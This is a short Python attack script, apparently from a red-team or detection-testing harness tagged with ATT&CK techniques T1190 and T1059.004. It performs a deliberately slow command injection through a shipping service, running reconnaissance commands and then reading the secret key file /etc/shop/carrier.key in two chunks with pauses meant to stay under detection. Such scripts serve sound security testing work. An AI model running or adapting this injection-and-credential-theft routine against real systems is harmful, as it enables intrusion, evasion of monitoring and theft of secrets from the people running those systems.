#!/usr/bin/python3 -B
"""Command injection, slow and low: one small command at a time, with long pauses between them."""

from attack import Attack

KEY = "/etc/shop/carrier.key"


def run(attack: Attack) -> bool:
    said = []
    for command in ("id -u", "hostname", "uname -r", "ls /etc/shop", f"head -c 8 {KEY}",
                    f"tail -c +9 {KEY}"):
        said.append(attack.shipping(command))
        attack.wait(10)
    return attack.prove(said[0] == "33" and said[4] + said[5] == "shipping-3d5c20be", said=said)


Attack("T1190, T1059.004", ["edge", "orders", "shipping"], [KEY]).main(run)
